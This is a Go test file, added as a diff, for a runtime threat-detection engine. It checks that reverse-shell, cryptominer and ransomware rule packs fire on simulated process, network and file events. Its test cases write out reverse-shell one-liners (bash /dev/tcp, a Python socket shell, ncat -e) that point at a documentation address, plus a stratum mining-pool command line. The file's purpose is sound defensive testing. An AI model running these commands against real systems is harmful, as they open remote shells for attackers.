@@ -0,0 +1,248 @@
+package correlate
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/hallucinaut/runtimebase/pkg/baseline"
+	"github.com/hallucinaut/runtimebase/pkg/detect"
+	"github.com/hallucinaut/runtimebase/pkg/parse"
+	"github.com/hallucinaut/runtimebase/pkg/proctree"
+)
+
+func exec(pid, ppid int, path, cmdline string, data map[string]interface{}) detect.SystemEvent {
+	if data == nil {
+		data = make(map[string]interface{})
+	}
+	data["action"] = "exec"
+	data["ppid"] = ppid
+	data["cmdline"] = cmdline
+	return detect.SystemEvent{Type: "process", PID: pid, Path: path, Data: data}
+}
+
+func mustLookup(t *testing.T, names ...string) []Pack {
+	t.Helper()
+	packs, err := Lookup(names...)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return packs
+}
+
+func TestReverseShell(t *testing.T) {
+	packs, err := Lookup("reverse-shell")
+	if err != nil {
+		t.Fatal(err)
+	}
+	tree := proctree.New()
+	tree.ProcRoot = ""
+	engine := New(packs...).WithTree(tree)
+	engine.Observe(exec(100, 1, "/usr/sbin/nginx", "nginx: worker process", nil), nil)
+	engine.Observe(exec(200, 1, "/usr/bin/sshd", "sshd", nil), nil)
+
+	for _, tc := range []struct {
+		name  string
+		event detect.SystemEvent
+		want  string
+	}{
+		{"socket stdio", exec(101, 100, "/bin/sh", "sh -i", map[string]interface{}{"stdin": "socket:[4242]"}), "Reverse Shell"},
+		{"dev tcp", exec(102, 1, "/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", nil), "Reverse Shell via /dev/tcp"},
+		{"python", exec(103, 1, "/usr/bin/python3", `python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0)`, nil), "Scripted Reverse Shell"},
+		{"nc from server", exec(104, 100, "/usr/bin/ncat", "ncat 203.0.113.9 4444 -e /bin/sh", nil), "Network Relay Started by Service"},
+		{"nc from grandchild of server", exec(106, 105, "/bin/nc", "nc -lvp 4444", nil), "Network Relay Started by Service"},
+		{"terminal shell", exec(107, 200, "/bin/bash", "bash", map[string]interface{}{"stdin": "/dev/pts/0"}), ""},
+		{"nc from admin", exec(108, 1, "/bin/nc", "nc -z db 5432", nil), ""},
+		{"python script", exec(109, 1, "/usr/bin/python3", "python3 manage.py migrate", nil), ""},
+	} {
+		if tc.name == "nc from grandchild of server" {
+			engine.Observe(exec(105, 100, "/bin/sh", "sh -c nc -lvp 4444", nil), nil)
+		}
+		anomalies := engine.Observe(tc.event, nil)
+		if tc.want == "" {
+			if len(anomalies) != 0 {
+				t.Errorf("%s: expected nothing, got %+v", tc.name, anomalies)
+			}
+			continue
+		}
+		if len(anomalies) != 1 || anomalies[0].Type != tc.want {
+			t.Errorf("%s: expected %q, got %+v", tc.name, tc.want, anomalies)
+			continue
+		}
+		if a := anomalies[0]; a.Severity != "CRITICAL" || a.PID != tc.event.PID || len(a.Lineage) == 0 {
+			t.Errorf("%s: expected a CRITICAL anomaly with lineage, got %+v", tc.name, a)
+		}
+	}
+
+	if _, err := Lookup("no-such-pack"); err == nil {
+		t.Error("expected an unknown pack to be an error")
+	}
+}
+
+func TestCryptominer(t *testing.T) {
+	for _, p := range mustLookup(t) {
+		if p.Name == "cryptominer" {
+			t.Error("expected the optional cryptominer pack to be left out by default")
+		}
+	}
+	packs, err := Lookup("cryptominer")
+	if err != nil {
+		t.Fatal(err)
+	}
+	tree := proctree.New()
+	tree.ProcRoot = ""
+	engine := New(packs...).WithTree(tree)
+
+	b := baseline.NewLearner().CreateBaseline("web")
+	b.RecordObservation("process", "/usr/sbin/nginx", 1)
+	for _, v := range []float64{2, 4, 3, 5} {
+		b.RecordResources(map[string]float64{"resource:cpu.pressure": v})
+	}
+
+	start := time.Date(2024, 1, 1, 12, 0, 0, 0, time.UTC)
+	labels := map[string]string{"container_id": "c1"}
+	cpu := func(minute int, value float64) detect.SystemEvent {
+		return detect.SystemEvent{Type: "resource", Timestamp: start.Add(time.Duration(minute) * time.Minute), Labels: labels,
+			Data: map[string]interface{}{"metric": "cpu.pressure", "value": value}}
+	}
+	observe := func(e detect.SystemEvent) []string {
+		var types []string
+		for _, a := range engine.Observe(e, b) {
+			types = append(types, a.Type+": "+a.Evidence)
+		}
+		return types
+	}
+
+	miner := exec(300, 1, "/tmp/.x/kworker", "kworker", nil)
+	miner.Timestamp, miner.Labels = start, labels
+	known := exec(301, 1, "/usr/sbin/nginx", "nginx", nil)
+	known.Timestamp, known.Labels = start, labels
+	observe(miner)
+	observe(known)
+	for minute := 1; minute <= 3; minute++ {
+		if got := observe(cpu(minute, 90)); got != nil {
+			t.Fatalf("expected no alert on CPU alone, got %v", got)
+		}
+	}
+	got := observe(cpu(11, 90))
+	if len(got) != 1 || !strings.Contains(got[0], SignalCPU) || !strings.Contains(got[0], "/tmp/.x/kworker running 11m") {
+		t.Fatalf("expected sustained CPU and the new long-running process to alert, got %v", got)
+	}
+	if strings.Contains(got[0], "nginx") {
+		t.Errorf("expected the learned process not to count, got %v", got)
+	}
+	if got := observe(cpu(12, 90)); got != nil {
+		t.Errorf("expected one alert per window, got %v", got)
+	}
+
+	other := map[string]string{"container_id": "c2"}
+	connect := detect.SystemEvent{Type: "network", Timestamp: start, Labels: other,
+		Data: map[string]interface{}{"destination": "198.51.100.7:3333", "port": 3333}}
+	if got := observe(connect); got != nil {
+		t.Errorf("expected no alert on a stratum port alone, got %v", got)
+	}
+	pool := exec(400, 1, "/usr/sbin/nginx", "nginx -o stratum+tcp://pool.example:3333", nil)
+	pool.Timestamp, pool.Labels = start.Add(time.Minute), other
+	if got := observe(pool); len(got) != 0 {
+		t.Errorf("expected two stratum indicators to count as one signal, got %v", got)
+	}
+}
+
+func TestRansomware(t *testing.T) {
+	packs, err := Lookup("ransomware")
+	if err != nil {
+		t.Fatal(err)
+	}
+	start := time.Date(2024, 1, 1, 12, 0, 0, 0, time.UTC)
+	file := func(pid int, at time.Duration, action, path, newPath string) detect.SystemEvent {
+		data := map[string]interface{}{"action": action}
+		if newPath != "" {
+			data["new_path"] = newPath
+		}
+		return detect.SystemEvent{Type: "file", PID: pid, Path: path, Timestamp: start.Add(at), Data: data}
+	}
+	run := func(events []detect.SystemEvent) []string {
+		tree := proctree.New()
+		tree.ProcRoot = ""
+		engine := New(packs...).WithTree(tree)
+		var found []string
+		for _, e := range events {
+			for _, a := range engine.Observe(e, nil) {
+				found = append(found, a.Severity+" "+a.Type+": "+a.Evidence)
+			}
+		}
+		return found
+	}
+
+	// Encrypting in place: read, write, rename to a new extension.
+	var inPlace, copies, wipe, editor []detect.SystemEvent
+	for i := 0; i < 30; i++ {
+		path := fmt.Sprintf("/data/report-%02d.pdf", i)
+		at := time.Duration(i) * 100 * time.Millisecond
+		inPlace = append(inPlace, file(1, at, "read", path, ""), file(1, at, "write", path, ""), file(1, at, "rename", path, path+".locked"))
+		copies = append(copies, file(2, at, "read", path, ""), file(2, at, "write", path+".x7kq2p", ""), file(2, at, "unlink", path, ""))
+		wipe = append(wipe, file(4, at, "read", path, ""), file(4, at, "write", "/tmp/archive", ""), file(4, at, "unlink", path, ""))
+		// An editor saving a document every few seconds churns one file.
+		editor = append(editor, file(3, time.Duration(i)*3*time.Second, "read", "/home/u/doc.odt", ""),
+			file(3, time.Duration(i)*3*time.Second, "write", "/home/u/.~doc.odt.tmp", ""),
+			file(3, time.Duration(i)*3*time.Second, "rename", "/home/u/.~doc.odt.tmp", "/home/u/doc.odt"))
+	}
+	for name, events := range map[string][]detect.SystemEvent{"in place": inPlace, "copies": copies} {
+		got := run(events)
+		if len(got) != 1 || !strings.HasPrefix(got[0], "CRITICAL Ransomware File Churn") {
+			t.Errorf("%s: expected one CRITICAL alert, got %v", name, got)
+		}
+	}
+	if got := run(wipe); len(got) != 1 || !strings.Contains(got[0], "20 files rewritten") {
+		t.Errorf("expected churn without extension changes to alert at 20 files, got %v", got)
+	}
+	if got := run(editor); got != nil {
+		t.Errorf("expected an editor saving one file not to alert, got %v", got)
+	}
+
+	for ext, want := range map[string]bool{"x7kq2p": true, "q9zt4mw1": true, "locked": false, "backup": false, "json": false} {
+		if randomLooking(ext) != want {
+			t.Errorf("randomLooking(%q) = %v, want %v", ext, !want, want)
+		}
+	}
+}
+
+// TestRansomwareStrace feeds the churn rule strace output, whose reads and
+// writes name descriptors rather than paths.
+func TestRansomwareStrace(t *testing.T) {
+	day := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
+	lines := []string{`4242  12:00:00.000000 openat(AT_FDCWD, "/tmp/archive", O_WRONLY|O_CREAT, 0600) = 4`}
+	for i := 0; i < 30; i++ {
+		path := fmt.Sprintf("/data/report-%02d.pdf", i)
+		at := fmt.Sprintf("12:00:%02d.%06d", i/10, i%10*100000)
+		lines = append(lines,
+			fmt.Sprintf(`4242  %s openat(AT_FDCWD, %q, O_RDONLY) = 3`, at, path),
+			fmt.Sprintf(`4242  %s read(3, "%%PDF-1.7\n"..., 65536) = 65536`, at),
+			fmt.Sprintf(`4242  %s close(3) = 0`, at),
+			fmt.Sprintf(`4242  %s write(4, "\x8a\x1f"..., 65536) = 65536`, at),
+			fmt.Sprintf(`4242  %s unlinkat(AT_FDCWD, %q, 0) = 0`, at, path))
+	}
+	run := func(parseLine func(string, time.Time) (detect.SystemEvent, bool)) []string {
+		engine := New(mustLookup(t, "ransomware")...)
+		var found []string
+		for _, line := range lines {
+			event, ok := parseLine(line, day)
+			if !ok {
+				t.Fatalf("unparsed line %q", line)
+			}
+			for _, a := range engine.Observe(event, nil) {
+				found = append(found, a.Severity+" "+a.Type+": "+a.Evidence)
+			}
+		}
+		return found
+	}
+
+	if got := run(parse.NewStraceFiles().Parse); len(got) != 1 || !strings.Contains(got[0], "CRITICAL Ransomware File Churn: 20 files rewritten") {
+		t.Errorf("expected one alert at 20 files, got %v", got)
+	}
+	// Without following descriptors, the reads name no file.
+	if got := run(parse.ParseStrace); got != nil {
+		t.Errorf("expected no alert without descriptors resolved, got %v", got)
+	}
+}